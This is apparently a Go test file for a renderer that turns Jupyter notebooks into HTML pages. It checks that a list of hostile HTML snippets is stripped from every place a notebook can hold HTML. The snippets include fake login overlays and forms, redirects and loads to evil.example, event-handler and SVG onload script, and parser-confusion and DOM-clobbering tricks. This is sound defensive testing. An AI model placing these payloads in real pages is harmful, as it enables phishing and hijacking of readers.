package page

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"html"
	"regexp"
	"strings"
	"testing"

	"golang.org/x/net/html/atom"

	nethtml "golang.org/x/net/html"

	"github.com/expfam/lab/internal/must"
	"github.com/expfam/lab/viz/program"
)

// hostile is content that leads away, covers, loads or pretends to be the page's own. A page has none of the elements,
// attributes and ids for this, wherever the content comes from.
var hostile = []struct{ name, html string }{
	{"a refresh that leads away", `<meta http-equiv="refresh" content="0;url=https://evil.example/">`},
	{"a base for addresses", `<base href="https://evil.example/">`},
	{"an overlay", `<div style="position:fixed;inset:0;z-index:99;background:#fff">log in</div>`},
	{"an overlay that is absolute", `<div style="position:absolute;top:0;left:0;width:99999px;height:99999px">log in</div>`},
	{"an overlay that sticks", `<div style="position:sticky;top:0;height:100px">log in</div>`},
	{"an overlay by a class of panels", `<div class="expfam-live-bar" style="height:9999px;background:#fff">log in</div>`},
	{"an overlay by a class of the site", `<div class="bar">log in</div><ol class="found"><li>x</li></ol>`},
	{"an overlay by a negative margin", `<div style="position:relative;margin-top:-9999px;height:9999px">log in</div>`},
	{"an overlay by a transformation", `<div style="transform:scale(99);translate:9px">log in</div>`},
	{"a dialog", `<dialog open>log in</dialog>`},
	{"a popover", `<div popover id="p">x</div><button popovertarget="p">x</button>`},
	{"a style sheet of another host", `<link rel="stylesheet" href="https://evil.example/x.css">`},
	{"an import", `<style>@import "https://evil.example/x.css"; main{display:none}</style>`},
	{"hints to load and to look up", `<link rel="preload" as="image" href="https://evil.example/x"><link rel="dns-prefetch" href="//evil.example">`},
	{"an image of another host", `<img src="https://evil.example/x.png">`},
	{"an image of another host on the page's scheme", `<img src="//evil.example/x.png">`},
	{"backslashes that browsers read as slashes", `<img src="\\evil.example\x.png"><img src="/\evil.example/x.png">`},
	{"a scheme with a line break", "<img src=\"ht\ntps://evil.example/x.png\">"},
	{"three slashes", `<img src="///evil.example/x.png">`},
	{"a scheme without slashes", `<img src="https:evil.example/x.png">`},
	{"a file of another host", `<img src="file://evil.example/x.png">`},
	{"sources for densities", `<img src="data:image/png;base64,QUJD" srcset="https://evil.example/x 2x"><picture><source srcset="https://evil.example/y"><img src="data:image/png;base64,QUJD"></picture>`},
	{"SVG that loads", `<svg><image href="https://evil.example/x"/><use href="https://evil.example/x#a"/><foreignObject><meta http-equiv="refresh" content="0;url=https://evil.example/"></foreignObject></svg>`},
	{"media", `<video src="https://evil.example/x" poster="https://evil.example/y"></video><audio src="https://evil.example/x"><track src="https://evil.example/y"></audio>`},
	{"objects and frames", `<object data="https://evil.example/x"></object><embed src="https://evil.example/x"><iframe src="https://evil.example/x"></iframe>`},
	{"backgrounds", `<table background="https://evil.example/x"><tr><td background="https://evil.example/x" style="background:url(https://evil.example/x)">x</td></tr></table>`},
	{"backgrounds by other functions", `<p style="background:image-set('//evil.example/x' 1x);list-style-image:url(//evil.example/x);background:src('//evil.example/x')">x</p>`},
	{"an address with an escape of CSS", `<p style="background:u\72l(//evil.example/x)">x</p>`},
	{"content and cursors of styles", `<p style="content:url(//evil.example/x);cursor:url(//evil.example/x),auto;filter:url(//evil.example/x#f)">x</p>`},
	{"a button that is an image", `<input type="image" src="https://evil.example/x">`},
	{"a form", `<form action="https://evil.example/" id="f"><input name="password"><button>log in</button></form>`},
	{"a link that tells", `<a href="https://evil.example/" ping="https://evil.example/ping" target="_top">x</a>`},
	{"the worker of a live page", `<p id="expfam-live-worker">postMessage(1)</p><p id='expfam-live-program'>QUJD</p>`},
	{"the configuration of a live page", `<p id="expfam-live">{"program":"","worker":"https://evil.example/w.js"}</p>`},
	{"a file of a live page", `<pre id="expfam-live-file:data.csv">QUJD</pre>`},
	{"JupyterLab's configuration", `<p id="jupyter-config-data">{"baseUrl":"https://evil.example/"}</p>`},
	{"the search field", `<p id="search" data-index="https://evil.example/x.json">x</p><ol id="found"></ol>`},
	{"another cell", `<section id="cell-c0" data-live="" class="cell code">x</section>`},
	{"names of the document", `<img name="cookie" src="data:image/png;base64,QUJD"><a id="location" name="body">x</a><p id="expfamControls">x</p>`},
	{"a form control's names", `<a id="attributes"><p id="querySelector">x</p></a><label for="search">x</label>`},
	{"what scripts have marked", `<div data-live="maps" data-made="1" data-taken="1" data-ran="1" data-program="maps" data-day="https://evil.example/x">x</div>`},
	{"handlers that lead away", `<b onmouseover="location='https://evil.example/'">x</b><details open ontoggle="location='//evil.example/'">x</details>`},
	{"comments that end early", `<!--><meta http-equiv="refresh" content="0;url=https://evil.example/">-->`},
	{"MathML that leads away", `<math><maction xlink:href="https://evil.example/">x</maction><annotation-xml
		encoding="text/html"><img src="https://evil.example/x"></annotation-xml></math>`},
	{"frames in frames", `<iframe srcdoc="<iframe srcdoc='&lt;meta http-equiv=refresh content=0&gt;'></iframe>"></iframe>`},
	{"escapes and comments of CSS", `<p style="pos\69 tion:fi\78 ed">x</p><p style="position:/**/fixed">x</p>`},
	{"variables of CSS", `<p style="--x:fixed;position:var(--x)">x</p><p style="position-anchor:--a;z-index:9">x</p>`},
	{"an SVG that is text", `<img src="data:image/svg+xml,<svg onload=alert(1)>" srcset="x">`},
	{"ids by entities", `<p id="&#101;xpfam-live-worker">x</p><p id=" expfam-live">x</p>`},
	{"a shadow", `<template shadowrootmode="open"><style>:host{position:fixed}</style></template><slot name="x">x</slot>`},
	{"frames of other kinds", `<portal src="https://evil.example/"></portal><fencedframe src="https://evil.example/">x</fencedframe>`},
	{"another name of an image", `<image src="https://evil.example/x"><img src="blob:https://evil.example/1">`},
	{"text that a browser reads again", `<noscript><p title="</noscript><meta http-equiv=refresh content=0>"></noscript><xmp></xmp><base href=x>`},
}

// places are where a notebook can have HTML. Each makes a cell.
var places = []struct {
	name string
	cell func(html string) string
	live bool
}{
	{"Markdown", func(html string) string {
		return fmt.Sprintf(`{"cell_type": "markdown", "id": "c0", "metadata": {}, "source": %q}`, html)
	}, false},
	{"an output", func(html string) string { return outputCell("text/html", html) }, false},
	{"Markdown of an output", func(html string) string { return outputCell("text/markdown", html) }, false},
	{"a setting of a panel", func(html string) string { return outputCell("text/html", panelOf("", html)) }, false},
	{"a setting of a live panel", func(html string) string { return outputCell("text/html", panelOf(html, html)) },
		true},
}

func outputCell(mime, text string) string {
	return fmt.Sprintf(`{"cell_type": "code", "id": "c0", "metadata": {}, "execution_count": 1, "source": "f()", "outputs": [
		{"output_type": "display_data", "metadata": {}, "data": {%q: %s}}]}`, mime, compactJSON(text))
}

// panelOf returns the output of a panel with the HTML of its settings.
func panelOf(settings ...string) string {
	data := fmt.Sprintf(`{"panel":"p","live":false,"specs":[{"label":"x","kind":"slider"}],"frames":{"control":0,"values":[0,1],"at":0,"html":%q}}`, program.Pack(settings))
	return `<div class="expfam-live" data-panel="p"><div class="expfam-live-controls"></div><div class="expfam-live-figure"></div>` + program.Call(program.Panel, data) + `</div>`
}

var blockOf = regexp.MustCompile(`(?s)<script type="application/json" data-program="(\w+)">(.*?)</script>`)

// contentOf is what a page shows of a notebook: the body without the cells' own elements, and the settings of panels.
func contentOf(t *testing.T, page string) string {
	t.Helper()
	_, body, _ := strings.Cut(page, "<main>")
	body, _, _ = strings.Cut(body, "</main>")
	var all strings.Builder
	for _, m := range blockOf.FindAllStringSubmatch(body, -1) {
		var data struct{ Frames struct{ HTML string } }
		must.Do(t, json.Unmarshal([]byte(m[2]), &data))
		if data.Frames.HTML != "" {
			texts := must.Get(program.Unpack(data.Frames.HTML, mostFrames))(t)
			all.WriteString(strings.Join(texts, "\n"))
		}
	}
	_, body, _ = strings.Cut(blockOf.ReplaceAllString(body, ""), ">") // of the section
	return strings.TrimSuffix(strings.TrimSpace(body), "</section>") + all.String()
}

// harm says what a piece of HTML can do to a page around it, by what a browser would read. "" is nothing.
func harm(text string) string {
	known, own := map[string]bool{}, regexp.MustCompile(`^(?:output|html|markdown|stream|note|chroma|line|\w{1,3}|`+
		shown.Classes[4:len(shown.Classes)-2]+`)$`)
	for _, e := range append(shown.Elements, "input") {
		known[e] = true
	}
	nodes, err := nethtml.ParseFragment(strings.NewReader(text),
		&nethtml.Node{Type: nethtml.ElementNode, Data: "body", DataAtom: atom.Body})
	if err != nil {
		return err.Error()
	}
	found := ""
	var look func(n *nethtml.Node)
	look = func(n *nethtml.Node) {
		if n.Type == nethtml.ElementNode && !known[n.Data] {
			found = "an element " + n.Data
		}
		for _, a := range n.Attr {
			value := strings.ToLower(a.Val)
			switch a.Key {
			case "src":
				if !strings.HasPrefix(value, "data:image/") && remote(value) {
					found = "it loads " + a.Val
				}
			case "id":
				if !strings.HasPrefix(a.Val, idPrefix) {
					found = "an id " + a.Val
				}
			case "class":
				for _, c := range strings.Fields(a.Val) {
					if !own.MatchString(c) {
						found = "a class " + c
					}
				}
			case "style":
				if regexp.MustCompile(`fixed|absolute|sticky|url|src|image|transform|translate|z-index|: *-\d|\\`).
					MatchString(value) {
					found = "a style " + a.Val
				}
			case "name", "for", "srcset", "ping", "target", "background", "action", "poster", "data-live", "data-day",
				"data-program", "popover", "http-equiv":
				found = "an attribute " + a.Key
			}
			if strings.HasPrefix(a.Key, "on") {
				found = "a handler " + a.Key
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			look(c)
		}
	}
	for _, n := range nodes {
		look(n)
	}
	return found
}

func TestHostileContent(t *testing.T) {
	live := &Live{Cells: []string{"c0"}, Program: []byte("code"), Runtime: []byte("run()")}
	for _, c := range hostile {
		must.Be(t, harm(c.html) != "", "%s: does no harm as it is, so it tests nothing", c.name)
		for _, p := range places {
			t.Run(c.name+" in "+p.name, func(t *testing.T) {
				var own Scripts
				if p.live {
					own.Live = live
				}
				data := must.Get(Render(parse(t, `{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [`+
					p.cell(c.html)+`]}`), "x", own))(t)
				content := contentOf(t, string(data))
				must.Equal(t, harm(content), "", content)
				for _, id := range []string{"expfam-live-worker", "expfam-live-program", "expfam-live"} {
					if n := strings.Count(string(data), ` id="`+id+`"`); p.live && n != 1 || !p.live && n != 0 {
						t.Errorf("%d elements %s", n, id)
					}
				}
				policy := html.UnescapeString(policyTag.FindStringSubmatch(string(data))[1])
				if !strings.Contains(policy, "img-src 'self' data: blob:;") || strings.Contains(policy, "http:") {
					t.Errorf("the policy lets something load: %s", policy)
				}
			})
		}
	}
}

// What a reader sees of an image that is not loaded.
func TestImagesOfOtherHosts(t *testing.T) {
	const title = ` title="an image of another host, which this page does not load"`
	for _, c := range []struct{ name, source, want string }{
		{"its description leads to it", `![a & b](https://a.org/x.png "t")`, `<p><a href="https://a.org/x.png"` +
			title + `>a &amp; b</a></p>`},
		{"no description", `![](http://a.org/x.png)`, `<p><a href="http://a.org/x.png"` + title + `>image</a></p>`},
		{"on the page's scheme", `<img src="//a.org/x.png" alt="a">`, `<a href="https://a.org/x.png"` + title +
			`>a</a>`},
		{"in a link", `[![a](https://a.org/x.svg)](https://b.org)`, `<p><a href="https://b.org">a</a></p>`},
		{"a formula in its description", `![$x$ y](https://a.org/x.png)`, `<p><a href="https://a.org/x.png"` + title +
			`><math`},
		{"by reference", "![a][r]\n\n[r]: https://a.org/x.png", `<p><a href="https://a.org/x.png"` + title +
			`>a</a></p>`},
		{"beside the page", `![a](img/x.png)`, `<p><img src="img/x.png" alt="a"></p>`},
		{"in a folder above", `![a](../x.png)`, `<p><img src="../x.png" alt="a"></p>`},
		{"in the page", `![a](data:image/png;base64,QUJD)`, `<p><img src="data:image/png;base64,QUJD" alt="a"></p>`},
	} {
		t.Run(c.name, func(t *testing.T) {
			got := string(markdown(c.source, nil))
			must.Be(t, strings.HasPrefix(got, c.want), "got  %s\nwant %s", got, c.want)
		})
	}
}

// Links inside of a notebook lead to what they name, which has a longer id in the page.
func TestAnchors(t *testing.T) {
	doc := `{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [
		{"cell_type": "markdown", "id": "m", "metadata": {}, "source": "# The Data\n\n[a](#the-data) [b](#The-Data) [c](#cell-c0) [d](#own) [e](#end) [f](#nothing) [g](#nb-end) [h](b.ipynb#x)\n\nNote[^1].\n\n[^1]: A note."},
		{"cell_type": "markdown", "id": "c0", "metadata": {}, "source": "## End\n\n<p id=own>x</p>"}]}`
	data := must.Get(Render(parse(t, doc), "x", Scripts{}))(t)
	for _, c := range []struct{ name, want string }{
		{"a heading", `<a href="#nb-the-data">a</a>`},
		{"a heading as JupyterLab names it", `<a href="#nb-the-data">b</a>`},
		{"its id", `<h1 id="nb-the-data">`},
		{"a cell", `<a href="#cell-c0">c</a>`},
		{"an element", `<a href="#nb-own">d</a>`},
		{"a heading of a later cell", `<a href="#nb-end">e</a>`},
		{"nothing", `<a href="#nb-nothing">f</a>`},
		{"the id in the page", `<a href="#nb-end">g</a>`},
		{"another notebook", `<a href="b.ipynb#x">h</a>`},
		{"a footnote", `<a href="#nb-fn:1"`},
		{"its end", `<li id="nb-fn:1">`},
		{"the way back", `<a href="#nb-fnref:1"`},
	} {
		must.Be(t, strings.Contains(string(data), c.want), "%s: no %s in\n%s", c.name, c.want, data)
	}
}

// The data of a figure get hold of no element but the figure's, and what is no figure's is left out.
func TestDataOfFigures(t *testing.T) {
	bomb := base64.StdEncoding.EncodeToString([]byte("no gzip"))
	for _, c := range []struct{ name, data, want string }{
		{"an id", `{"id":"viz-1","maps":[]}`, `data-program="maps">{"id":"nb-viz-1","maps":[]}<`},
		{"no id", `{"maps":[1.50]}`, `data-program="maps">{"maps":[1.50]}<`},
		{"a selector", `{"id":"x, main","maps":[]}`, ""},
		{"a selector of everything", `{"id":"x,*","panels":[]}`, ""},
		{"a number", `{"id":1,"maps":[]}`, ""},
		{"no text", `{"id":null,"csv":"a"}`, ""},
		{"the second of two", `{"id":"viz-1","id":"x, main","csv":"a"}`, ""},
		{"a selector in a panel's name", `{"panel":"p\"], main, [x=\"","specs":[]}`, ""},
		{"settings that can't be read", `{"panel":"p","specs":[],"frames":{"html":"` + bomb + `"}}`,
			`data-program="panel">{"frames":null,"panel":"p","specs":[]}<`},
		{"settings of another form", `{"panel":"p","specs":[],"frames":[1]}`,
			`data-program="panel">{"frames":null,"panel":"p","specs":[]}<`},
		{"no settings", `{"panel":"p","specs":[],"frames":null}`,
			`data-program="panel">{"frames":null,"panel":"p","specs":[]}<`},
		{"settings of a map", `{"id":"a","maps":[],"frames":{"html":"x"}}`,
			`data-program="maps">{"frames":{"html":"x"},"id":"nb-a","maps":[]}<`},
	} {
		t.Run(c.name, func(t *testing.T) {
			got := outputHTML("<p>a</p><script>(function (f) {})(" + c.data + ");</script>")
			if c.want == "" && (strings.Contains(got, "<script") ||
				!strings.Contains(got, "left out of this output")) || !strings.Contains(got, c.want) {
				t.Errorf("%s\nhas not %s", got, c.want)
			}
		})
	}
}

// What settings of lessons are made of passes: images of drawings, and tables.
func TestFramesOfLessons(t *testing.T) {
	for _, text := range []string{"",
		`<img alt="" style="max-width: 100%; display: block" src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">`,
		`<div id="nb-viz-1"><table class="mathjax_ignore tex2jax_ignore" style="border-collapse: collapse; font-size: 13px; margin: 6px 0"><tr><td style="text-align: right; white-space: nowrap">1</td></tr></table></div>`,
	} {
		given := strings.ReplaceAll(text, idPrefix, "")
		got, err := program.Unpack(func() string {
			var f struct{ HTML string }
			frames := map[string]any{"html": program.Pack([]string{given})}
			must.Do(t, json.Unmarshal(sanitisedFrames(compactJSON(frames)), &f))
			return f.HTML
		}(), mostFrames)
		must.Be(t, err == nil && len(got) == 1 && got[0] == text, "%v: got %q, want %q", err, got, text)
	}
}
